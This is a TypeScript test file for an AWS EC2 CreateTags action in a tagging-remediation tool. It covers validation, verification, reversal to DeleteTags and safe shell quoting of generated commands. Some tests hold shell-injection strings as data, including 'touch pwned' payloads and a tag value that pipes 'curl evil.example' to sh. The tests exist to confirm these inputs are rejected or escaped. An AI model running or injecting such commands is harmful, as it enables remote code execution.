import { CreateTagsCommand, DescribeTagsCommand, EC2Client, type DescribeTagsCommandInput } from '@aws-sdk/client-ec2';
import { mockClient } from 'aws-sdk-client-mock';
import * as v from 'valibot';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { planOf, stepOf, type AnyActionType, type SelfSignature, type Step } from '../../../shared/actions/action.js';
import { createTags, createTagsSignature } from '../../../shared/actions/ec2-create-tags.js';
import { deleteTags } from '../../../shared/actions/ec2-delete-tags.js';
import { reversalLines, reversalOf, reversalText } from '../../../shared/actions/reversal.js';
import type { TagParams, TagsPrevious } from '../../../shared/ec2/tag-actions.js';
import { AwsCallError } from '../../../shared/errors.js';
import { sampleConfig } from '../../helpers/samples.js';
import { DONE_ACTIONS, record } from '../../helpers/records.js';

const ec2 = mockClient(EC2Client);
const clients = { ec2: new EC2Client({ region: 'eu-west-1', credentials: { accessKeyId: 'a', secretAccessKey: 'b' } }) };
const [ONE, TWO] = ['i-0123456789abcdef0', 'i-0fedcba9876543210'];
const VOLUME = 'vol-0aaaaaaaaaaaaaaa1';
const RESOURCE = { type: 'AWS::EC2::Instance', id: ONE };
const OWNER = { Key: 'Owner', Value: 'arn:aws:iam::111122223333:user/alice' };
const AT = { Key: 'trailguard:tagged-at', Value: '2026-11-20T09:15:00.000Z' };
const HOSTILE_IDS = ["i-0123456789abcdef0' ; touch pwned ; '", 'i-*', '$(touch pwned)', '', 'i-0123456789ABCDEF0'];
const asType: AnyActionType = createTags;
const asSignature: SelfSignature = createTagsSignature;

const stepFor = (params: unknown, previous?: unknown, region = 'eu-west-1') =>
  stepOf(createTags, { api: createTags.api, resource: RESOURCE, params, ...(previous === undefined ? {} : { previous }) }, region) as Step<
    TagParams,
    TagsPrevious
  >;

/** Tags per resource as DescribeTags answers them. */
function tagsAre(byResource: Record<string, Record<string, string>>): void {
  ec2.on(DescribeTagsCommand).callsFake((input: DescribeTagsCommandInput) => ({
    Tags: (input.Filters?.[0]?.Values ?? []).flatMap((ResourceId) =>
      Object.entries(byResource[ResourceId] ?? {}).map(([Key, Value]) => ({ ResourceId, Key, Value })),
    ),
  }));
}

beforeEach(() => {
  ec2.reset();
  ec2.rejects(new Error('unexpected EC2 call'));
});
afterEach(() => ec2.reset());

describe('EC2.CreateTags params', () => {
  it('takes instance and volume ids with tags that each carry a value', () => {
    const params = { Resources: [ONE, VOLUME], Tags: [OWNER, AT] };
    expect(stepFor(params).params).toEqual(params);
  });

  it.each(HOSTILE_IDS)('refuses the resource id %j before any call, as invalid', (id) => {
    expect(() => stepFor({ Resources: [id], Tags: [OWNER] })).toThrow(AwsCallError);
    expect(() => stepFor({ Resources: [id], Tags: [OWNER] })).toThrow(expect.objectContaining({ kind: 'invalid', code: 'InvalidActionParams' }));
    expect(ec2.calls()).toHaveLength(0);
  });

  it.each([
    ['no resources', { Resources: [], Tags: [OWNER] }],
    ['no tags', { Resources: [ONE], Tags: [] }],
    ['a tag without its value', { Resources: [ONE], Tags: [{ Key: 'Owner' }] }],
    ['an aws: key', { Resources: [ONE], Tags: [{ Key: 'aws:cloudformation:stack-name', Value: 'x' }] }],
    ['a value over 256 characters', { Resources: [ONE], Tags: [{ Key: 'Owner', Value: 'x'.repeat(257) }] }],
    ['an extra field', { Resources: [ONE], Tags: [OWNER], DryRun: true }],
    ['resources as one string', { Resources: ONE, Tags: [OWNER] }],
  ])('refuses %s', (_, params) => {
    expect(v.safeParse(createTags.params, params).success).toBe(false);
  });

  it('treats a previous state that is not a tag map as not read', () => {
    expect(stepFor({ Resources: [ONE], Tags: [OWNER] }, { Tags: 'Name=web' }).previous).toBeUndefined();
    expect(stepFor({ Resources: [ONE], Tags: [OWNER] }, { Tags: { Name: 'web' } }).previous).toEqual({ Tags: { Name: 'web' } });
  });
});

describe('EC2.CreateTags perform and verify', () => {
  it('re-reads the tags, then writes exactly the planned tags on every resource of the call', async () => {
    tagsAre({ [ONE]: { Name: 'web' } });
    ec2.on(CreateTagsCommand).resolves({});

    await createTags.perform(stepFor({ Resources: [ONE, TWO], Tags: [OWNER, AT] }), clients);

    expect(ec2.commandCalls(DescribeTagsCommand)).toHaveLength(1);
    expect(ec2.commandCalls(CreateTagsCommand).map((c) => c.args[0].input)).toEqual([{ Resources: [ONE, TWO], Tags: [OWNER, AT] }]);
  });

  it('never overwrites a key that appeared since inspect: transient, naming the resource and key, no write', async () => {
    tagsAre({ [TWO]: { Owner: 'set-by-a-person' } });

    const performing = createTags.perform(stepFor({ Resources: [ONE, TWO], Tags: [OWNER, AT] }), clients);

    await expect(performing).rejects.toMatchObject({ kind: 'transient', code: 'TagAddedSinceInspect', detail: `${TWO} Owner` });
    expect(ec2.commandCalls(CreateTagsCommand)).toHaveLength(0);
  });

  it('retries (transient), never ignores, an instance CreateTags does not know yet', async () => {
    tagsAre({});
    ec2.on(CreateTagsCommand).rejects(Object.assign(new Error('does not exist'), { name: 'InvalidInstanceID.NotFound', $metadata: { httpStatusCode: 400 } }));

    await expect(createTags.perform(stepFor({ Resources: [ONE], Tags: [OWNER] }), clients)).rejects.toMatchObject({
      kind: 'transient',
      code: 'InvalidInstanceID.NotFound',
      api: 'EC2.CreateTags',
    });
  });

  it('lets a volume that is gone fail a call of its own as the SDK error (the runner classifies it)', async () => {
    tagsAre({});
    const gone = Object.assign(new Error('no such volume'), { name: 'InvalidVolume.NotFound', $metadata: { httpStatusCode: 400 } });
    ec2.on(CreateTagsCommand).rejects(gone);

    await expect(createTags.perform(stepFor({ Resources: [VOLUME], Tags: [OWNER] }), clients)).rejects.toBe(gone);
    await expect(createTags.perform(stepFor({ Resources: [ONE, VOLUME], Tags: [OWNER] }), clients)).rejects.toMatchObject({ kind: 'transient' });
  });

  it('reads every resource back: the values for one, the keys for several, and names one that lacks a key', async () => {
    tagsAre({ [ONE]: { Owner: OWNER.Value, [AT.Key]: AT.Value }, [TWO]: { Owner: OWNER.Value } });

    expect(await createTags.verify(stepFor({ Resources: [ONE], Tags: [OWNER, AT] }), clients)).toEqual({
      ok: true,
      detail: `Owner=${OWNER.Value}, ${AT.Key}=${AT.Value} read back on ${ONE}`,
    });
    expect(await createTags.verify(stepFor({ Resources: [ONE, TWO], Tags: [OWNER] }), clients)).toEqual({
      ok: true,
      detail: `Owner read back on each of 2 resources (${ONE}, ${TWO})`,
    });
    expect(await createTags.verify(stepFor({ Resources: [ONE, TWO], Tags: [OWNER, AT] }), clients)).toEqual({
      ok: false,
      detail: `${AT.Key} missing on ${TWO} after CreateTags`,
    });
  });
});

describe('EC2.CreateTags reverse', () => {
  it("deletes only the keys it added, with the values it wrote, in the action's Region", () => {
    const reversal = asType.reverse(
      stepFor({ Resources: [ONE, TWO], Tags: [OWNER, { Key: 'CostCenter', Value: 'unknown' }, AT] }, { Tags: { CostCenter: 'cc-42' } }, 'ap-southeast-2'),
    );

    expect(reversal).toEqual({
      kind: 'steps',
      steps: [
        {
          type: deleteTags,
          action: {
            api: 'EC2.DeleteTags',
            resource: { ...RESOURCE, region: 'ap-southeast-2' },
            params: { Resources: [ONE, TWO], Tags: [OWNER, AT] },
            previous: { Tags: { Owner: OWNER.Value, [AT.Key]: AT.Value } },
          },
        },
      ],
    });
    expect(reversalText(reversal)).toBe(
      `aws ec2 delete-tags --region 'ap-southeast-2' --resources '${ONE}' '${TWO}' --tags '[{"Key":"Owner","Value":"${OWNER.Value}"},{"Key":"${AT.Key}","Value":"${AT.Value}"}]'`,
    );
  });

  it('removes nothing blindly: no previous tags read, or every key existed before', () => {
    expect(asType.reverse(stepFor({ Resources: [ONE], Tags: [OWNER] }))).toEqual({
      kind: 'none',
      why: 'the record does not say which tags existed before (not read): no tag is removed blindly',
    });
    expect(asType.reverse(stepFor({ Resources: [ONE], Tags: [OWNER] }, { Tags: { Owner: 'bob' } }))).toEqual({
      kind: 'none',
      why: 'every key it wrote existed before: nothing was added, nothing to remove',
    });
  });

  it('gives the notification the same command report and undo print for a logged record', () => {
    const tagged = record({ rule: 'untagged-instance', resources: [RESOURCE], actions: [DONE_ACTIONS.tags] });
    const command = `aws ec2 delete-tags --region 'eu-west-1' --resources '${ONE}' --tags '[{"Key":"Owner","Value":"arn:aws:iam::111122223333:user/alice"},{"Key":"trailguard:tagged-at","Value":"2026-11-20T09:15:00Z"}]'`;
    expect(reversalText(reversalOf([createTags], tagged, tagged.actions[0]!))).toBe(command);
    expect(reversalLines([createTags], tagged)).toEqual([`To reverse: ${command}`]);
  });
});

describe('EC2.CreateTags command, signature', () => {
  it('gives a complete command, every value quoted, a hostile tag value included', () => {
    const value = "x'; curl evil.example | sh; echo '";
    expect(createTags.command(stepFor({ Resources: [ONE], Tags: [{ Key: 'Owner', Value: value }] }))).toBe(
      `aws ec2 create-tags --region 'eu-west-1' --resources '${ONE}' --tags '[{"Key":"Owner","Value":"x'\\''; curl evil.example | sh; echo '\\''"}]'`,
    );
  });

  it.each(HOSTILE_IDS)('gives no command for the resource id %j even when handed a step that skipped validation', (id) => {
    const command = createTags.command({
      api: createTags.api,
      resource: RESOURCE,
      params: { Resources: [id], Tags: [OWNER] },
      previous: undefined,
      region: 'eu-west-1',
    });
    expect(command).toMatch(/^no command: the (EC2 resource id in the event is not a valid EC2 resource id|event names no EC2 resource id)$/);
  });

  it('gives no command for a Region that is not a region code', () => {
    const command = createTags.command({
      api: createTags.api,
      resource: RESOURCE,
      params: { Resources: [ONE], Tags: [OWNER] },
      previous: undefined,
      region: "eu-west-1';touch pwned;'",
    });
    expect(command).toBe('no command: the region in the event is not a valid region');
  });

  it('says what it does, needs ec2:CreateTags, and does not retrigger a rule', () => {
    expect(createTags.describe(stepFor({ Resources: [ONE], Tags: [OWNER, AT] }))).toBe(`add Owner, ${AT.Key} to ${ONE}`);
    expect(createTags).toMatchObject({ api: 'EC2.CreateTags', iam: 'ec2:CreateTags', clients: ['ec2'], retriggers: false });
    expect(createTags.signature).toBe(createTagsSignature);
  });

  it('signs as its own only a CreateTags of the configured required keys and trailguard:tagged-at', () => {
    const caller = { enforces: false, config: sampleConfig({ rules: { 'untagged-instance': { requiredTags: ['Owner', 'CostCenter'] } } }) };
    const tagSet = (...keys: string[]) => ({ resourcesSet: { items: [{ resourceId: ONE }] }, tagSet: { items: keys.map((key) => ({ key, value: 'v' })) } });
    expect(createTagsSignature).toMatchObject({ api: 'EC2.CreateTags', eventName: 'CreateTags' });
    expect(asSignature.isOwnWrite(tagSet('Owner', 'trailguard:tagged-at'), caller)).toBe(true);
    expect(asSignature.isOwnWrite(tagSet('CostCenter'), caller)).toBe(true);
    expect(asSignature.isOwnWrite(tagSet('Owner', 'Name'), caller)).toBe(false);
    expect(asSignature.isOwnWrite(tagSet('owner'), caller)).toBe(false);
    expect(asSignature.isOwnWrite(tagSet(), caller)).toBe(false);
    expect(asSignature.isOwnWrite({ tagSet: { items: [{ key: 7 }] } }, caller)).toBe(false);
    expect(asSignature.isOwnWrite('CreateTags', caller)).toBe(false);
    expect(asSignature.isOwnWrite(null, caller)).toBe(false);
    expect(asSignature.isOwnWrite(tagSet('CostCenter'), { enforces: false, config: sampleConfig() })).toBe(false);
  });

  it('is planned typed by its action type', () => {
    expect(planOf(createTags, RESOURCE, { Resources: [ONE], Tags: [OWNER] })).toEqual({
      api: 'EC2.CreateTags',
      resource: RESOURCE,
      params: { Resources: [ONE], Tags: [OWNER] },
    });
  });
});
